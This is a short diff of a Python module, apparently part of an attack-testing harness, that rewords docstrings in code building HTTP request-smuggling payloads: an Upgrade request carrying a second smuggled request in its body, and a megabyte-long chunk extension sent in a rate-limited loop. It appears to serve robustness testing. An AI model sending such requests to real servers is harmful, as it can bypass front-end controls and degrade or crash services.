@@ -1,4 +1,4 @@
-"""Requests that two HTTP parsers read differently, and chunk extensions of unlimited length."""
+"""Requests that two HTTP parsers would read differently, and a chunk extension of a megabyte."""
 
 from tools.attacks.target import AttackTarget
 
@@ -10,7 +10,7 @@ EXTENSION_BYTES = 2**20
 
 
 async def attack(target: AttackTarget) -> None:
-    """Send each request over its own connection."""
+    """Send each of the requests over a connection of its own."""
     host = target.url.partition("//")[2]
     while await target.wait_for_rate_limit():
         for word in WORDS:
@@ -28,7 +28,8 @@ async def attack(target: AttackTarget) -> None:
 
 
 def upgrade(host: str, word: str) -> bytes:
-    """Return a request to upgrade to ``word`` whose body is another request."""
+    """Return a request that asks to upgrade to the protocol ``word``. Its body is another
+    request."""
     body = SMUGGLED.format(host=host)
     head = (
         f"POST /tokenize HTTP/1.1\r\nHost: {host}\r\nConnection: upgrade\r\nUpgrade: {word}\r\n"
